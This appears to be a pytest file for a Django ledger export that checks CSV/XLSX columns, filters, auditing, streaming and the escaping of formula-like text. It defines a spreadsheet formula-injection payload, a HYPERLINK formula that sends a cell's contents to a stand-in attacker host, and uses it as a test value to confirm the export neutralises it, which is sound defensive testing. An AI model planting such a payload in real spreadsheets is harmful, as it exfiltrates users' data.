"""`export_data ledger` and the admin download: DESIGN.md's columns, filters,
formula-looking text made inert in CSV and XLSX while numbers stay numbers,
streamed in chunks (queries do not grow with the rows), audited."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from core.models import AuditEvent
from incentives.exports import HEADER, ledger_rows
from incentives.models import EntryKind, LedgerEntry
from incentives.services import ledger as ledger_services
from tests import factories
from tests.incentives import ledger_factories

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
COLUMNS = [
    "id",
    "period",
    "employee_no",
    "name",
    "department",
    "kind",
    "points",
    "amount",
    "rule",
    "reason",
    "status",
    "reviewed_by",
    "reviewed_at",
]


@pytest.fixture
def reviewer(bank):
    return factories.staff(department=bank.hr_dept, employee_no="H900", role="HR")


@pytest.fixture
def entries(learner, other_learner, reviewer):
    rule = ledger_factories.rule(code="complaint-upheld", kind=EntryKind.PENALTY)
    hostile = ledger_factories.entry(
        staff=learner,
        kind=EntryKind.PENALTY,
        points=5,
        amount="120.50",
        rule_version=rule,
        reason=HYPERLINK,
    )
    plain = ledger_factories.entry(
        staff=other_learner, period="2026-11", reason="+86 13800000000 来电表扬"
    )
    ledger_services.entry_approve(entry=hostile, by=reviewer.user)
    return hostile, plain


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_the_header_is_designs(entries):
    assert HEADER == COLUMNS


def test_csv_export_is_inert_and_keeps_numbers(tmp_path, entries, capsys):
    hostile, _plain = entries
    out = tmp_path / "ledger.csv"
    call_command("export_data", "ledger", "-o", str(out))
    assert "2 rows written" in capsys.readouterr().out
    rows = read_csv(out)
    assert rows[0] == COLUMNS
    row = dict(zip(COLUMNS, rows[1], strict=True))
    assert row["id"] == str(hostile.pk)
    assert row["reason"] == "'" + HYPERLINK
    assert row["amount"] == "-120.50"  # a number, not made into text
    assert row["points"] == "-5"
    assert (row["employee_no"], row["name"], row["department"]) == (
        "L001",
        "林学员",
        "东湖路网点",
    )
    assert (row["kind"], row["rule"], row["status"], row["reviewed_by"]) == (
        "penalty",
        "complaint-upheld",
        "approved",
        "H900",
    )
    assert len(row["reviewed_at"]) == len("2026-11-29 09:00")
    other = dict(zip(COLUMNS, rows[2], strict=True))
    assert other["reason"] == "'+86 13800000000 来电表扬"
    assert (other["rule"], other["reviewed_by"], other["reviewed_at"]) == ("", "", "")


def test_xlsx_export_is_inert_and_keeps_numbers(tmp_path, entries):
    out = tmp_path / "ledger.xlsx"
    call_command("export_data", "ledger", "-o", str(out))
    sheet = load_workbook(out).active
    rows = list(sheet.iter_rows(values_only=False))
    assert [c.value for c in rows[0]] == COLUMNS
    cells = dict(zip(COLUMNS, rows[1], strict=True))
    assert cells["reason"].value == HYPERLINK
    assert cells["reason"].data_type == "s"  # text, never a formula
    assert cells["amount"].data_type == "n"
    assert Decimal(str(cells["amount"].value)) == Decimal("-120.50")
    assert cells["points"].value == -5
    assert cells["reviewed_at"].is_date


def test_period_and_status_filters(tmp_path, entries):
    hostile, plain = entries
    out = tmp_path / "p.csv"
    call_command("export_data", "ledger", "-o", str(out), "--period", "2026-11")
    assert [r[0] for r in read_csv(out)[1:]] == [str(plain.pk)]
    call_command("export_data", "ledger", "-o", str(out), "--status", "approved")
    assert [r[0] for r in read_csv(out)[1:]] == [str(hostile.pk)]
    xlsx = tmp_path / "p.xlsx"
    call_command("export_data", "ledger", "-o", str(xlsx), "--status", "pending")
    rows = list(load_workbook(xlsx).active.iter_rows(values_only=True))
    assert [r[0] for r in rows[1:]] == [plain.pk]


def test_the_command_export_is_audited(tmp_path, entries):
    out = tmp_path / "a.csv"
    call_command("export_data", "ledger", "-o", str(out), "--status", "approved")
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.target_type == "ledger"
    assert event.detail["rows"] == 1


@pytest.mark.parametrize("count", [3, 60])
def test_rows_stream_in_a_fixed_number_of_queries(
    learner, django_assert_max_num_queries, count
):
    LedgerEntry.objects.bulk_create(
        LedgerEntry(
            staff=learner,
            kind="reward",
            points=1,
            amount=Decimal("1.00"),
            period="2026-10",
            posting_key=f"bulk:{n}",
            reason="r",
        )
        for n in range(count)
    )
    with django_assert_max_num_queries(2):
        rows = list(ledger_rows(LedgerEntry.objects.all(), chunk_size=25))
    assert len(rows) == count + 1


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_download_is_inert(as_hr, entries, fmt):
    response = as_hr.get(reverse("ledger:index"), {"export": fmt})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        reasons = [r[COLUMNS.index("reason")] for r in rows[1:]]
        assert "'" + HYPERLINK in reasons
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        cells = [row[COLUMNS.index("reason")] for row in sheet.iter_rows()]
        hostile = next(c for c in cells if c.value == HYPERLINK)
        assert hostile.data_type == "s"
        amounts = [row[COLUMNS.index("amount")].value for row in sheet.iter_rows()][1:]
        assert all(isinstance(a, int | float) for a in amounts)
    assert AuditEvent.objects.filter(target_type="incentives.ledgerentry").count() == 1


def test_the_streamed_csv_has_one_bom_and_every_row(learner):
    from incentives.exports import _csv_chunks

    for n in range(5):
        ledger_factories.entry(staff=learner, reason=f"=1+{n}")
    chunks = list(_csv_chunks(LedgerEntry.objects.all(), batch_rows=2))
    assert len(chunks) == 3
    text = b"".join(chunks).decode("utf-8")
    assert text.count("\ufeff") == 1 and text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [r[COLUMNS.index("reason")] for r in rows[1:]] == [
        f"'=1+{n}" for n in range(5)
    ]


def test_values_rows_reads_what_values_list_reads(entries):
    """The export's cursor reader converts cells like Django's iterator does
    (decimals, aware times), however many rows share a raw value."""
    from core.exports import values_rows
    from incentives.exports import PATHS

    more = [
        ledger_factories.entry(staff=entries[0].staff, amount=amount, reason="重复")
        for amount in ("120.50", "120.50", "7.00")
    ]
    assert more
    queryset = LedgerEntry.objects.order_by("pk")
    expected = list(queryset.values_list(*PATHS))
    ours = list(values_rows(queryset, PATHS, chunk_size=2))
    assert ours == expected
    # Equal is not enough: 120.5 == Decimal("120.50").
    assert {type(row[PATHS.index("amount")]) for row in ours} == {Decimal}
    assert list(values_rows(queryset.none(), PATHS)) == []
